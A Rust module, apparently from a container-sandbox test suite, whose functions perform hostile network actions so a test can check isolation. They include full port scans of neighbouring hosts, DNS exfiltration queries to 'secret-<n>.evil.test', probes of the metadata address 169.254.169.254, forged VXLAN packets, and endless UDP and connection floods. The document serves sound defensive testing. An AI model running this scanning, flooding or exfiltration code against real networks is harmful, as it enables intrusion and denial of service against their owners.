//! Attacks on others over the network: neighbours, the host, the platform, the world.
//!
//! Destinations come from `HOSTILE_TARGETS` (`address:port`, with commas between them), which the
//! test fills with its lures, or lie in the container's own network.

use std::{
    fs, io,
    net::{IpAddr, Ipv4Addr, SocketAddr, TcpListener, TcpStream, UdpSocket},
    sync::{
        Mutex, PoisonError,
        atomic::{AtomicUsize, Ordering},
    },
    thread,
    time::{Duration, Instant},
};

use crate::setting;

/// How long a neighbour has for an answer.
const NEAR: Duration = Duration::from_millis(300);
/// Threads of a scan.
const SCANNERS: usize = 16;
/// What is looked for where nobody seems to be.
const USUAL: [u16; 16] =
    [22, 53, 80, 443, 1337, 2375, 2376, 2377, 4789, 5000, 6379, 7946, 8080, 9080, 9081, 27017];
/// How long two strangers wait for each other, unless `HOSTILE_TOGETHER_S` says otherwise.
const TOGETHER: Duration = Duration::from_secs(8);
const STRANGERS: u16 = 9999;

/// Every port of every neighbour; how many are open, beside its own.
pub(super) fn scan() -> String {
    let alive = |host: &Ipv4Addr| {
        let knocked = TcpStream::connect_timeout(&SocketAddr::from((*host, 1)), NEAR * 4);
        match knocked {
            Ok(_) => true,
            Err(error) => error.kind() == io::ErrorKind::ConnectionRefused,
        }
    };
    let (near, silent): (Vec<Ipv4Addr>, Vec<_>) = neighbours().into_iter().partition(alive);
    let mut targets: Vec<SocketAddr> = Vec::new();
    targets
        .extend(near.iter().flat_map(|&h| (1..=u16::MAX).map(move |p| SocketAddr::from((h, p)))));
    targets.extend(silent.iter().flat_map(|&h| USUAL.map(|p| SocketAddr::from((h, p)))));
    format!("neighbours={} open={}", near.len(), open(&targets).len())
}

/// Each of the targets over TCP, and a datagram to each; how many answered.
pub(super) fn reach() -> String {
    let targets = targets();
    let reached = open(&targets);
    for target in &targets {
        for _ in 0..3 {
            // What does not leave is not counted by the lure either.
            let _ = socket_for(target).and_then(|socket| socket.send_to(b"hostile", target));
        }
    }
    format!("open={}", reached.len())
}

fn together() -> Duration {
    setting("HOSTILE_TOGETHER_S").parse().map_or(TOGETHER, Duration::from_secs)
}

/// Listens for strangers for a while; how many came.
pub(super) fn listener() -> String {
    let Ok(listener) = TcpListener::bind((Ipv4Addr::UNSPECIFIED, STRANGERS)) else {
        return "no port".to_owned();
    };
    if listener.set_nonblocking(true).is_err() {
        return "no port".to_owned();
    }
    let mut came = 0;
    let until = Instant::now() + together();
    while Instant::now() < until {
        match listener.accept() {
            Ok(_) => came += 1,
            Err(_) => thread::sleep(Duration::from_millis(20)),
        }
    }
    format!("strangers={came}")
}

/// Dials the targets, which are where `listener` may listen, again and again for a while; how many
/// answered.
pub(super) fn dialler() -> String {
    let targets = targets();
    let until = Instant::now() + together();
    let mut reached = 0;
    while Instant::now() < until {
        reached += open(&targets).len();
        thread::sleep(Duration::from_millis(100));
    }
    format!("open={reached}")
}

/// A hundred names that carry something out, to the engine's resolver and to the targets; how many
/// were resolved.
pub(super) fn dns() -> String {
    let mut resolvers = vec![SocketAddr::from((Ipv4Addr::new(127, 0, 0, 11), 53))];
    resolvers.extend(targets());
    let Ok(socket) = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0)) else {
        return "no socket".to_owned();
    };
    for n in 0..100_u16 {
        for resolver in resolvers.iter().filter(|resolver| resolver.is_ipv4()) {
            // That it has no way there is the answer.
            let _ = socket.send_to(&query(n), resolver);
        }
    }
    let _ = socket.set_read_timeout(Some(Duration::from_secs(2)));
    let (mut resolved, until) = (0, Instant::now() + Duration::from_secs(4));
    let mut packet = [0; 512];
    while Instant::now() < until {
        match socket.recv(&mut packet) {
            // The number of answers stands in the header's seventh and eighth byte (RFC 1035).
            Ok(length) if length >= 12 => resolved += u32::from(packet[6..8] != [0, 0]),
            Ok(_) => {}
            Err(_) => break,
        }
    }
    format!("resolved={resolved}")
}

/// A question for the address of `secret-<n>.evil.test` (RFC 1035 §4).
fn query(n: u16) -> Vec<u8> {
    let mut packet = n.to_be_bytes().to_vec();
    packet.extend([1, 0, 0, 1, 0, 0, 0, 0, 0, 0]);
    for label in [format!("secret-{n}"), "evil".to_owned(), "test".to_owned()] {
        packet.push(u8::try_from(label.len()).unwrap_or(0));
        packet.extend(label.as_bytes());
    }
    packet.extend([0, 0, 1, 0, 1]);
    packet
}

/// Datagrams to everybody: multicast, link-local and broadcast. Over IPv4 only a lure can tell
/// whether they arrived; over IPv6 none may leave.
pub(super) fn multicast() -> String {
    let everybody = [
        "[ff02::1]:5353",
        "[ff02::fb]:5353",
        "[fe80::1]:80",
        "[::ffff:169.254.169.254]:80",
        "224.0.0.1:5353",
        "224.0.0.251:5353",
        "239.255.255.250:1900",
        "255.255.255.255:67",
        "255.255.255.255:5353",
    ];
    let mut over_ipv6 = 0;
    for target in everybody.iter().filter_map(|text| text.parse::<SocketAddr>().ok()) {
        let sent = socket_for(&target).and_then(|socket| {
            socket.set_broadcast(true)?;
            socket.send_to(b"hostile", target)
        });
        let mapped = matches!(target.ip(), IpAddr::V6(ip) if ip.to_ipv4_mapped().is_some());
        over_ipv6 += u32::from(target.is_ipv6() && !mapped && sent.is_ok());
    }
    format!("sent over IPv6={over_ipv6}")
}

/// A forged packet of an overlay network (RFC 7348) to each target, as if another node had sent it.
/// Over IPv4 only a lure can tell whether they arrived; over IPv6 none may leave.
pub(super) fn overlay() -> String {
    // The overlay's first network, and in it a broadcast of the kind that nobody uses (0x88b5).
    let mut packet = vec![0x08, 0, 0, 0, 0, 0x10, 0x01, 0];
    packet.extend([0xff; 6]);
    packet.extend([0x02, 0x42, 0x0a, 0, 0, 0x66, 0x88, 0xb5]);
    packet.extend(b"hostile");
    packet.resize(8 + 60, 0);
    let mut over_ipv6 = 0;
    // A first datagram may be lost while its neighbour is looked for.
    for target in targets().iter().cycle().take(targets().len() * 3) {
        let sent = socket_for(target).and_then(|socket| socket.send_to(&packet, target));
        over_ipv6 += u32::from(target.is_ipv6() && sent.is_ok());
    }
    format!("sent over IPv6={over_ipv6}")
}

/// Half-open connections and single datagrams, each a new flow for whoever keeps a table of them.
pub(super) fn connection_flood() {
    let hosts = neighbours();
    let Ok(socket) = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0)) else { return };
    loop {
        for port in 1..=u16::MAX {
            for host in &hosts {
                let _ = socket.send_to(b"x", (*host, port));
            }
            for target in targets() {
                let _ = socket.send_to(b"x", (target.ip(), port));
            }
        }
    }
}

/// Small datagrams at the neighbours, as many as it can.
pub(super) fn flood() {
    let hosts = neighbours();
    let Ok(socket) = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0)) else { return };
    loop {
        for host in &hosts {
            let _ = socket.send_to(&[0x5a; 64], (*host, 9));
        }
    }
}

/// Whoever asks is attacked back: connections to every port of the neighbours that are broken off at
/// once, and datagrams from the port that is asked.
pub(super) fn harass() {
    let hosts = neighbours();
    thread::scope(|scope| {
        scope.spawn(flood);
        loop {
            for port in 1..=u16::MAX {
                for host in &hosts {
                    drop(TcpStream::connect_timeout(&SocketAddr::from((*host, port)), NEAR));
                }
            }
        }
    });
}

/// Which of them accept a connection.
fn open(targets: &[SocketAddr]) -> Vec<SocketAddr> {
    let (next, found) = (AtomicUsize::new(0), Mutex::new(Vec::new()));
    thread::scope(|scope| {
        for _ in 0..SCANNERS.min(targets.len()) {
            scope.spawn(|| {
                while let Some(target) = targets.get(next.fetch_add(1, Ordering::Relaxed)) {
                    if TcpStream::connect_timeout(target, NEAR).is_ok() {
                        found.lock().unwrap_or_else(PoisonError::into_inner).push(*target);
                    }
                }
            });
        }
    });
    found.into_inner().unwrap_or_else(PoisonError::into_inner)
}

fn targets() -> Vec<SocketAddr> {
    setting("HOSTILE_TARGETS").split(',').filter_map(|text| text.parse().ok()).collect()
}

fn socket_for(target: &SocketAddr) -> io::Result<UdpSocket> {
    match target.ip() {
        IpAddr::V4(_) => UdpSocket::bind("0.0.0.0:0"),
        IpAddr::V6(_) => UdpSocket::bind("[::]:0"),
    }
}

/// The other addresses of the networks that this container is in, by the kernel's own table.
fn neighbours() -> Vec<Ipv4Addr> {
    let table = fs::read_to_string("/proc/net/route").unwrap_or_default();
    let address = |text: &str| u32::from_str_radix(text, 16).ok().map(u32::from_be);
    let mut all = Vec::new();
    for line in table.lines().skip(1) {
        let fields: Vec<&str> = line.split_whitespace().collect();
        let [_, to, _, _, _, _, _, mask, ..] = fields[..] else { continue };
        let (Some(to), Some(mask)) = (address(to), address(mask)) else { continue };
        // Not the way out, nor more than a small network.
        if mask == 0 || !mask > 255 {
            continue;
        }
        all.extend((to + 1..to | !mask).map(Ipv4Addr::from));
    }
    let own = all.first().and_then(|first| {
        let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0)).ok()?;
        socket.connect((*first, 9)).ok()?;
        socket.local_addr().ok()
    });
    all.retain(|host| own.is_none_or(|own| own.ip() != IpAddr::V4(*host)));
    all
}
